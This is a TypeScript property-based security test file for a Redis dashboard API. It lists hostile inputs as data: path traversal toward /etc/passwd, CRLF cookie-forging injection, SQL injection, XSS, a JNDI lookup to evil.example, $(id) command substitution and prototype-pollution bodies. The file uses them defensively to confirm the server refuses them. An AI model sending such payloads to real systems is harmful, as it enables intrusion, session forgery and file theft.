import fc from 'fast-check';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { autoscanConfigSchema } from '../../contract/autoscan';
import { errorBodySchema } from '../../contract/error-body';
import { createTaskRequestSchema, taskListSchema, taskSchema } from '../../contract/hotkey-task';
import { instanceListSchema, instanceSummarySchema } from '../../contract/instance-summary';
import { meSchema } from '../../contract/session';
import { parseConfig } from '../config/load-config';
import { type RedisServerProcess, startRedisServer } from '../local-redis/redis-server-process';
import { connect, disconnect, LFU_TEST_ARGS, type TestClient } from '../sources/redis/scan/test-keyspace';
import { type RunningDashboard, startDashboard } from '../start-dashboard';
import { rawRequest, type RawRequest, type RawResponse } from '../testing/raw-http';
import { expectApiHeaders, expectSecurityHeaders } from '../testing/security-headers';

/**
 * Whatever a client sends, the BFF answers a 4xx JSON error or a valid success, never a 5xx, and an
 * invalid request never reaches Redis: the server's own counters prove it.
 */

const INSTANCE = 'standalone';
const KNOWN_TASK = '00000000-0000-4000-8000-000000000000';
const RULES = { 'content-type': 'application/json', 'x-requested-with': 'hotkeys' };

/** Path segments as they go on the wire (already percent-encoded where a raw byte cannot). */
const HOSTILE_IDS = [
  '..',
  '.',
  '...',
  '%2e%2e',
  '%2E%2E',
  '.%2e',
  '%2e.',
  '..%2F..%2Fetc%2Fpasswd',
  '%2F',
  '%2Fetc%2Fpasswd',
  '%252F',
  '%252e%252e%252F',
  `${INSTANCE}%2F..`,
  `${INSTANCE}%2F`,
  'a%5Cb',
  '..%5C..%5Cwindows',
  '%EF%BC%8F',
  `${INSTANCE}%EF%BC%8Fx`,
  '%EF%BC%8E%EF%BC%8E',
  '%00',
  `${INSTANCE}%00`,
  '%0d%0a',
  `x%0d%0aSet-Cookie:%20hotkeys_session=forged`,
  '%09',
  '%20',
  `${INSTANCE}%20`,
  '%2F%2Fevil.example',
  'http:%2F%2Fevil.example',
  'a'.repeat(1024),
  `${'a'.repeat(64)}b`,
  '%',
  '%zz',
  '%ff',
  '%c0%ae%c0%ae',
  '%u002e%u002e',
  '%E2%80%AE',
  '%E2%80%8B',
  '%F0%9F%94%A5',
  encodeURIComponent('ｓｔａｎｄａｌｏｎｅ'),
  encodeURIComponent("' OR 1=1 --"),
  encodeURIComponent('<script>alert(1)</script>'),
  encodeURIComponent('${jndi:ldap://evil.example/a}'),
  encodeURIComponent('{{7*7}}'),
  encodeURIComponent('$(id)'),
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '-1',
  '1e309',
  '9'.repeat(400),
  'STANDALONE',
  `-${INSTANCE}`,
  `${INSTANCE}.`,
  `${INSTANCE};x=1`,
  '*',
  '~root',
];

/** Every route with a path parameter, for one hostile instance id. */
const routesForInstance = (id: string): RawRequest[] => [
  { method: 'GET', path: `/api/instances/${id}` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-tasks` },
  // a valid body: only the id may stop it
  { method: 'POST', path: `/api/instances/${id}/hotkey-tasks`, body: '{}' },
  { method: 'GET', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}` },
  { method: 'DELETE', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}` },
  { method: 'POST', path: `/api/instances/${id}/hotkey-tasks/${KNOWN_TASK}/cancel` },
  { method: 'GET', path: `/api/instances/${id}/hotkey-autoscan` },
  { method: 'PUT', path: `/api/instances/${id}/hotkey-autoscan`, body: '{"enable_auto_scan":false,"schedule_at":[]}' },
];

const routesForTask = (taskId: string): RawRequest[] => [
  { method: 'GET', path: `/api/instances/${INSTANCE}/hotkey-tasks/${taskId}` },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}/hotkey-tasks/${taskId}` },
  { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-tasks/${taskId}/cancel` },
];

const HOSTILE_QUERIES = [
  'limit=abc',
  'limit=0',
  'limit=-1',
  'limit=1.5',
  'limit=1e309',
  'limit=Infinity',
  'limit=1001',
  'limit=99999999999999999999999',
  'offset=-1',
  'offset=1e9',
  'offset=NaN',
  'offset=%00',
  'status=done',
  'status=success%00',
  'status=SUCCESS',
  'status=success%0d%0aX:y',
  'status=__proto__',
  `status=${'x'.repeat(1024)}`,
  `limit=${'9'.repeat(8000)}`,
  'limit[]=1&limit=-5',
];

const CREATE_BODIES = [
  '{',
  '{"impact":"fast",}',
  "{'impact':'fast'}",
  '[]',
  '[1,2]',
  'null',
  'true',
  '0',
  '"gentle"',
  '{"impact":1}',
  '{"impact":null}',
  '{"impact":["fast"]}',
  '{"impact":{"$gt":""}}',
  '{"impact":"FAST"}',
  '{"impact":"fast\\u0000"}',
  '{"method":"sample","seconds":1e309}',
  '{"method":"sample","seconds":-1}',
  '{"method":"sample","seconds":0.5}',
  '{"method":"sample","seconds":9007199254740993}',
  '{"method":"sample","seconds":"5"}',
  '{"method":"lfu","seconds":5}',
  '{"method":"monitor"}',
  '{"__proto__":{"role":"operator"}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"impact":"fast","extra":1}',
  `{"impact":"${'x'.repeat(1024)}"}`,
  `${'['.repeat(5000)}${']'.repeat(5000)}`,
  '\u0000',
  '\ud800',
];

const AUTOSCAN_BODIES = [
  '{}',
  '{"enable_auto_scan":"yes","schedule_at":[]}',
  '{"enable_auto_scan":true,"schedule_at":[]}',
  '{"enable_auto_scan":true,"schedule_at":["25:00"]}',
  '{"enable_auto_scan":true,"schedule_at":["1:00"]}',
  '{"enable_auto_scan":true,"schedule_at":["10:00","10:00"]}',
  `{"enable_auto_scan":true,"schedule_at":${JSON.stringify(Array.from({ length: 25 }, (_, i) => `${String(i % 24).padStart(2, '0')}:${i < 24 ? '00' : '30'}`))}}`,
  '{"enable_auto_scan":true,"schedule_at":"10:00"}',
  '{"enable_auto_scan":false,"schedule_at":[],"instance_id":"other"}',
];

const SESSION_BODIES = [
  '{"token":123}',
  '{"token":""}',
  `{"token":"${'x'.repeat(2000)}"}`,
  '{"token":null}',
  '{}',
  '[',
];

/** Wrong methods on every route. */
const WRONG_METHODS: RawRequest[] = [
  { method: 'PATCH', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body: '{}' },
  { method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}/hotkey-tasks` },
  { method: 'POST', path: `/api/instances/${INSTANCE}`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}` },
  { method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}`, body: '{}' },
  { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}`, body: '{}' },
  { method: 'GET', path: `/api/instances/${INSTANCE}/hotkey-tasks/${KNOWN_TASK}/cancel` },
  { method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-autoscan`, body: '{}' },
  { method: 'DELETE', path: `/api/instances/${INSTANCE}/hotkey-autoscan` },
  { method: 'POST', path: '/api/instances', body: '{}' },
  { method: 'POST', path: '/api/health', body: '{}' },
  { method: 'PUT', path: '/api/me', body: '{}' },
  { method: 'GET', path: '/api/session' },
  { method: 'OPTIONS', path: `/api/instances/${INSTANCE}/hotkey-tasks` },
  { method: 'TRACE', path: '/api/instances' },
  { method: 'PROPFIND', path: '/api/instances' },
];

/** The table: hostile ids on every route, hostile task ids, queries, bodies and methods. */
const HOSTILE_REQUESTS: RawRequest[] = (
  [
    ...HOSTILE_IDS.flatMap(routesForInstance),
    ...HOSTILE_IDS.flatMap(routesForTask),
    ...HOSTILE_QUERIES.map((query) => ({ method: 'GET', path: `/api/instances/${INSTANCE}/hotkey-tasks?${query}` })),
    ...CREATE_BODIES.map((body) => ({ method: 'POST', path: `/api/instances/${INSTANCE}/hotkey-tasks`, body })),
    ...AUTOSCAN_BODIES.map((body) => ({ method: 'PUT', path: `/api/instances/${INSTANCE}/hotkey-autoscan`, body })),
    ...SESSION_BODIES.map((body) => ({ method: 'POST', path: '/api/session', body })),
    ...WRONG_METHODS,
  ] as RawRequest[]
).map((request) => ({ ...request, headers: { ...RULES, ...request.headers } }));

let redis: RedisServerProcess;
let counterClient: TestClient;
let dir: string;
let dashboard: RunningDashboard;
let before: RedisCounters;

interface RedisCounters {
  connections: number;
  commands: number;
}

/** The server's own counters, less the INFO that reads them. */
async function redisCounters(): Promise<RedisCounters> {
  const info = await counterClient.info('stats');
  const read = (name: string) => Number(new RegExp(`${name}:(\\d+)`).exec(info)?.[1]);
  return { connections: read('total_connections_received'), commands: read('total_commands_processed') };
}

beforeAll(async () => {
  redis = await startRedisServer({ args: LFU_TEST_ARGS });
  counterClient = await connect(redis.url);
  dir = mkdtempSync(join(tmpdir(), 'hotkeys-hostile-'));
  const staticDir = join(dir, 'web');
  mkdirSync(join(staticDir, 'assets'), { recursive: true });
  writeFileSync(join(staticDir, 'index.html'), '<!doctype html><title>spa</title>');
  writeFileSync(join(staticDir, 'assets', 'app.js'), 'console.log(1)');
  writeFileSync(join(dir, 'secret.txt'), 'OUTSIDE-THE-STATIC-ROOT');
  dashboard = await startDashboard({
    config: parseConfig({ sources: [{ kind: 'redis', id: INSTANCE, name: 'S', url: redis.url }] }, 'test'),
    dataDir: join(dir, 'data'),
    host: '127.0.0.1',
    port: 0,
    staticDir,
  });
  // The summary cache is warm and then left to expire: nothing below may ask Redis anything.
  expect((await call({ path: `/api/instances/${INSTANCE}` })).status).toBe(200);
  before = await redisCounters();
}, 60_000);

afterAll(async () => {
  await dashboard?.close();
  disconnect(counterClient);
  await redis?.stop();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const call = (request: RawRequest) => rawRequest(dashboard.url, request);

/** A 4xx answer must be the JSON error body with the API headers. */
function expectJsonRefusal(request: RawRequest, response: RawResponse): void {
  const what = `${request.method} ${request.path.slice(0, 120)} ${String(request.body).slice(0, 60)}`;
  expect(response.status, `${what}: ${response.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
  expect(response.status, `${what}: ${response.text.slice(0, 200)}`).toBeLessThan(500);
  if (request.method === 'HEAD') return;
  expect(errorBodySchema.safeParse(response.json).success, `${what}: ${response.text.slice(0, 200)}`).toBe(true);
  expect(response.headers['content-type']).toMatch(/^application\/json/);
  expect(response.text, `${what}: no stack trace`).not.toMatch(/\bat .+\.(ts|js):\d+/);
  expectHeadersFor(request, response);
}

describe('hostile input', () => {
  it(`refuses ${HOSTILE_REQUESTS.length} hostile ids, parameters, bodies and methods with 4xx JSON`, async () => {
    expect(HOSTILE_IDS.length).toBeGreaterThanOrEqual(40);
    for (const request of HOSTILE_REQUESTS) expectJsonRefusal(request, await call(request));
  });

  it('answers 400, not 404, for ids the format check refuses', async () => {
    for (const id of ['..%2F..%2Fetc%2Fpasswd', '%252F', 'a%5Cb', '%00', '%0d%0a', 'a'.repeat(1024), '%EF%BC%8F']) {
      for (const request of routesForInstance(id)) {
        const response = await call({ ...request, headers: RULES });
        expect(`${request.method} ${request.path.slice(0, 80)} -> ${response.status}`).toBe(
          `${request.method} ${request.path.slice(0, 80)} -> 400`,
        );
      }
    }
  });

  it('refuses a raw backslash in the path with a JSON 400 and the security headers', async () => {
    for (const path of [
      `/api/instances/a\\b`,
      `/api/instances/${INSTANCE}/hotkey-tasks/..\\..\\x`,
      '/..\\secret.txt',
    ]) {
      const response = await call({ path });
      expect(response.status, path).toBe(400);
      expectSecurityHeaders(response.headers, path);
      expect(errorBodySchema.safeParse(response.json).success, `${path}: ${response.text}`).toBe(true);
    }
  });

  it('never serves a file from outside the static root', async () => {
    const attempts = [
      '/..%2fsecret.txt',
      '/%2e%2e/secret.txt',
      '/%2e%2e%2fsecret.txt',
      '/assets/..%2f..%2fsecret.txt',
      '/assets/%2e%2e/%2e%2e/secret.txt',
      '/assets/%252e%252e/secret.txt',
      '/..%252fsecret.txt',
      '/%c0%ae%c0%ae/secret.txt',
      '//secret.txt',
      '/assets/app.js%00.html',
    ];
    for (const path of attempts) {
      const response = await call({ path });
      expect(response.status, path).toBeLessThan(500);
      expect(response.text, path).not.toContain('OUTSIDE-THE-STATIC-ROOT');
      expectSecurityHeaders(response.headers, path);
    }
  });

  it('answers 1,000 random requests with a 4xx JSON error or a valid success, never a 5xx', async () => {
    const segment = fc.oneof(
      fc.constantFrom(...HOSTILE_IDS),
      fc.string({ maxLength: 70 }).map(encodeURIComponent),
      fc.string({ unit: 'grapheme', maxLength: 20 }).map(encodeURIComponent),
      fc.constantFrom(INSTANCE, KNOWN_TASK, 'nope'),
    );
    const query = fc
      .dictionary(
        fc.constantFrom('offset', 'limit', 'status', 'x'),
        fc.oneof(fc.string({ maxLength: 30 }), fc.integer().map(String), fc.double().map(String)),
        { maxKeys: 3 },
      )
      .map((q) => new URLSearchParams(q).toString());
    const body = fc.oneof(
      fc.json({ maxDepth: 3 }),
      fc.string({ maxLength: 200 }),
      fc
        .record(
          {
            impact: fc.anything({ maxDepth: 1 }),
            method: fc.anything({ maxDepth: 1 }),
            seconds: fc.anything({ maxDepth: 1 }),
          },
          { requiredKeys: [] },
        )
        .map((r) => JSON.stringify(r) ?? ''),
      fc
        .record(
          {
            enable_auto_scan: fc.anything({ maxDepth: 1 }),
            schedule_at: fc.array(fc.string({ maxLength: 6 }), { maxLength: 30 }),
          },
          { requiredKeys: [] },
        )
        .map((r) => JSON.stringify(r)),
    );
    const template = fc.constantFrom(
      (id: string) => `/api/instances/${id}`,
      (id: string) => `/api/instances/${id}/hotkey-tasks`,
      (id: string, task: string) => `/api/instances/${id}/hotkey-tasks/${task}`,
      (id: string, task: string) => `/api/instances/${id}/hotkey-tasks/${task}/cancel`,
      (id: string) => `/api/instances/${id}/hotkey-autoscan`,
      () => '/api/session',
      () => '/api/me',
      (id: string) => `/api/${id}`,
    );
    const requestArb = fc
      .record({
        method: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'),
        template,
        id: segment,
        task: segment,
        query,
        body: fc.option(body, { nil: undefined }),
        rules: fc.constantFrom(RULES, RULES, RULES, { 'content-type': 'text/plain' }, {}),
      })
      .map(({ method, template, id, task, query, body, rules }) => ({
        method,
        path: `${template(id, task)}${query ? `?${query}` : ''}`,
        body: method === 'GET' || method === 'HEAD' ? undefined : body,
        headers: rules,
      }))
      .filter((request) => !reachesRedis(request));

    let successes = 0;
    await fc.assert(
      fc.asyncProperty(requestArb, async (request) => {
        const response = await call(request);
        if (response.status < 400) {
          expectValidSuccess(request, response);
          successes++;
        } else {
          expectJsonRefusal(request, response);
        }
      }),
      { numRuns: 1000, seed: 20261128, endOnFailure: true },
    );
    expect(successes, 'the generator also produces some valid requests').toBeGreaterThan(0);
  });

  it('made no Redis call for any of them, and still answers', async () => {
    const after = await redisCounters();
    expect(after.connections - before.connections, 'new connections to Redis').toBe(0);
    expect(after.commands - before.commands, 'commands beyond the INFO reading the counters').toBe(1);
    expect((await call({ path: '/api/health' })).status).toBe(200);
  });
});

/** The only random requests that may reach Redis: reading the instance, or a valid start. */
function reachesRedis(request: RawRequest): boolean {
  const target = /^\/api\/instances\/([^/]*)(\/hotkey-tasks)?$/.exec(normalise(request.path));
  if (!target || safeDecode(target[1] ?? '') !== INSTANCE) return false;
  if (!target[2]) return request.method === 'GET' || request.method === 'HEAD';
  if (request.method !== 'POST') return false;
  return createTaskRequestSchema.safeParse(parseOrUndefined(request.body)).success;
}

/** What the WHATWG URL parser makes of dot segments before the router sees the path. */
const normalise = (path: string): string => new URL(path.split('?')[0] ?? '', 'http://x').pathname;

const safeDecode = (segment: string): string | undefined => {
  try {
    return decodeURIComponent(segment);
  } catch {
    return undefined;
  }
};

const parseOrUndefined = (body: string | Buffer | undefined): unknown => {
  const text = body?.toString() ?? '';
  if (text.trim() === '') return {};
  try {
    return JSON.parse(text);
  } catch {
    return undefined;
  }
};

/** Dot segments can lead a path out of /api/, to the SPA, which has the security headers but may be cached. */
function expectHeadersFor(request: RawRequest, response: RawResponse): void {
  const what = `${request.method} ${request.path.slice(0, 120)}`;
  if (normalise(request.path).startsWith('/api/')) expectApiHeaders(response.headers, what);
  else expectSecurityHeaders(response.headers, what);
}

function expectValidSuccess(request: RawRequest, response: RawResponse): void {
  expectHeadersFor(request, response);
  if (request.method === 'HEAD' || request.method === 'OPTIONS') return;
  const path = normalise(request.path);
  if (!path.startsWith('/api/')) {
    expect(response.text, `${request.method} ${request.path}: the SPA shell`).toContain('<title>spa</title>');
    return;
  }
  const schemas: [RegExp, z.ZodType][] = [
    [/^\/api\/me$/, meSchema],
    [/^\/api\/session$/, request.method === 'DELETE' ? z.object({ signed_out: z.literal(true) }) : meSchema],
    [/^\/api\/instances$/, instanceListSchema],
    [/^\/api\/instances\/[^/]+$/, instanceSummarySchema],
    [/^\/api\/instances\/[^/]+\/hotkey-tasks$/, request.method === 'GET' ? taskListSchema : taskSchema],
    [/^\/api\/instances\/[^/]+\/hotkey-tasks\/[^/]+(\/cancel)?$/, taskSchema],
    [/^\/api\/instances\/[^/]+\/hotkey-autoscan$/, autoscanConfigSchema],
  ];
  const schema = schemas.find(([pattern]) => pattern.test(path))?.[1];
  expect(schema, `${request.method} ${request.path} answered ${response.status}: ${response.text}`).toBeDefined();
  expect(schema!.safeParse(response.json).success, `${request.method} ${request.path}: ${response.text}`).toBe(true);
}
